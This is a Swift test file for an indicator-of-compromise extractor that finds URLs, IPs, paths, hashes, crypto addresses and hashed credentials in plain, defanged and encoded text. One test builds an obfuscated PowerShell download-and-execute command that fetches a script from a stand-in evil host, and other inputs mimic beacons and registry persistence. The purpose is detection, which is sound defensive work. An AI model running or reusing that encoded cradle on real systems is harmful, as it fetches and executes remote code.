import Foundation
import Testing
import SpoorIndicators

@Suite struct IndicatorExtractorTests {
    static let extractor = IndicatorExtractor()

    static func found(_ text: String, _ options: ExtractionOptions = .init()) -> [String] {
        IndicatorExtractor(options: options).extract(text).map(\.indicator.description)
    }

    @Test(arguments: [
        ("beacon to hxxp://evil[.]example[.]com/a from 10.0.0.5",
         ["url:http://evil.example.com/a", "domain-name:evil.example.com", "ipv4-addr:10.0.0.5"]),
        ("The registry value “ntdll” was added to the “HKEY_USERS\\<USER SID>\\Software\\Run” key.",
         ["windows-registry-key:HKEY_USERS\\<USER SID>\\Software\\Run"]),
        ("ran C:\\Program Files\\App\\x.exe as admin", ["x-windows-path:C:\\Program Files\\App\\x.exe"]),
        ("copy \\\\fs01\\share$\\drop.bin now", ["x-windows-path:\\\\fs01\\share$\\drop.bin"]),
        ("wrote /tmp/.x/payload.sh and ~/bin/run", ["x-unix-path:/tmp/.x/payload.sh", "x-unix-path:~/bin/run"]),
        ("inet 10.1.2.3/24 brd 10.1.2.255", ["ipv4-addr:10.1.2.0/24", "ipv4-addr:10.1.2.3", "ipv4-addr:10.1.2.255"]),
        ("from fe80::1%eth0 and 2001:DB8::1 and ::ffff:192.0.2.1", ["ipv6-addr:fe80::1", "ipv6-addr:2001:db8::1", "ipv4-addr:192.0.2.1"]),
        ("see CVE-2021-44228 and cve 2014-0160", ["vulnerability:CVE-2021-44228", "vulnerability:CVE-2014-0160"]),
        ("Hashes=MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=18DDF28A71089ACDBAB5038F58044C0A",
         ["file:hashes.MD5:d41d8cd98f00b204e9800998ecf8427e"]),
        ("mail Bad.Guy+x@Evil.Example.org now", ["email-addr:bad.guy+x@evil.example.org", "domain-name:evil.example.org"]),
        ("AS15169 and ASN 13335 but just as 2014", ["autonomous-system:AS15169", "autonomous-system:AS13335"]),
        ("pay 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 or 0x52908400098527886E0F7030069857D2E4169EE7",
         ["x-cryptocurrency-address:1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "x-cryptocurrency-address:0x52908400098527886E0F7030069857D2E4169EE7"]),
    ])
    func extracts(text: String, expected: [String]) {
        #expect(Self.found(text) == expected)
    }

    /// Timestamps, versions, counters, MACs, file names and code are no addresses or domains.
    @Test(arguments: [
        "2015-10-18 18:01:47,978 INFO main", "took 12:34:56.789", "version 1.2.3.4.5", "std::string a::b 1::",
        "MAC 00:1a:2b:3c:4d:5e", "loaded setup.py and run.sh and libc.so.6 and README.md", "config.json invoice.pdf",
        "java.lang.Thread.getStackTrace", "packets=12 bytes=3456 dur=0.123", "T1156.001", "%TEMP%\\dsc*",
    ])
    func findsNothing(text: String) {
        #expect(Self.found(text).isEmpty, "\(Self.found(text))")
    }

    @Test func offsetsPointIntoTheInput() throws {
        let text = "x hxxp://evil[.]example[.]com/a y"
        let url = try #require(Self.extractor.extract(text).first)
        let bytes = Array(text.utf8)
        #expect(String(decoding: bytes[url.start..<url.end], as: UTF8.self) == "hxxp://evil[.]example[.]com/a")
        #expect(url.wasDefanged)
    }

    @Test func powerShellEncodedCommand() throws {
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/p.ps1')"
        var utf16: [UInt8] = []
        for u in script.utf16 { utf16.append(UInt8(u & 0xFF)); utf16.append(UInt8(u >> 8)) }
        let line = "powershell.exe -nop -w hidden -EncodedCommand " + Data(utf16).base64EncodedString()
        let found = Self.extractor.extract(line)
        let url = try #require(found.first { $0.indicator.kind == .url })
        #expect(url.indicator.value == "http://evil.example.com/p.ps1")
        #expect(url.decoding == [.base64, .utf16le])
        #expect(url.start == 46 && url.end == line.utf8.count)
    }

    @Test func gzipInsideBase64() throws {
        // `printf 'connect to 203.0.113.7 and bad.example.net' | gzip -n | base64 -w0`
        let b64 = "H4sIAAAAAAAAA0vOz8tLTS5RKMlXMDIw1jPQMzQ01jNXSMxLUUhKTNFLrUjMLchJ1ctLLQEAaKhMASoAAAA="
        let found = Self.extractor.extract("data=" + b64)
        #expect(found.map(\.indicator.description) == ["ipv4-addr:203.0.113.7", "domain-name:bad.example.net"])
        #expect(found.allSatisfy { $0.decoding == [.base64, .gzip] })
    }

    @Test func urlAndHTMLEscapes() {
        #expect(Self.found("q=http%3A%2F%2Fevil.example.com%2Fx").contains("domain-name:evil.example.com"))
        let html = Self.extractor.extract("href=&#104;ttp://evil&#46;example&#46;com/")
        #expect(html.contains { $0.indicator.description == "url:http://evil.example.com/" && $0.decoding == [.html] })
    }

    @Test func decodingDepthIsLimited() {
        var text = "http://deep.example.com/"
        for _ in 0..<5 { text = Data(text.utf8).base64EncodedString() }
        #expect(Self.found(text).isEmpty)
        var opts = ExtractionOptions()
        opts.maximumDecodingDepth = 6
        #expect(Self.found(text, opts).contains("url:http://deep.example.com/"))
    }

    @Test func credentialsAreNeverInClear() {
        let found = Self.found("net use x: user=alice password=Hunter2! and ftp://bob:s3cr3t@ftp.example.com/")
        #expect(found.contains("user-account:alice"))
        #expect(found.contains("user-account:bob"))
        #expect(found.contains { $0.hasPrefix("x-credential:alice:sha256:") })
        #expect(found.contains { $0.hasPrefix("x-credential:bob:sha256:") })
        #expect(found.contains("url:ftp://bob:***@ftp.example.com/"))
        #expect(!found.joined().contains("Hunter2") && !found.joined().contains("s3cr3t"))
    }

    @Test func kindsOption() {
        #expect(Self.found("10.0.0.1 evil.example.com", ExtractionOptions(kinds: [.domain])) == ["domain-name:evil.example.com"])
    }

    /// Any bytes: no crash, offsets inside the input.
    @Test func arbitraryBytes() {
        var rng = SystemRandomNumberGenerator()
        let alphabet = Array("0123456789abcdefABCDEF:./\\%[]()@hxtp =&#;-_~<>\"'\n\u{0}".utf8) + [0xE2, 0xFF, 0x80]
        for _ in 0..<20000 {
            let n = Int.random(in: 0..<200, using: &rng)
            let bytes = (0..<n).map { _ in alphabet.randomElement(using: &rng) ?? 0 }
            for x in Self.extractor.extract(bytes.span) { #expect(x.start >= 0 && x.start <= x.end && x.end <= n) }
        }
    }
}
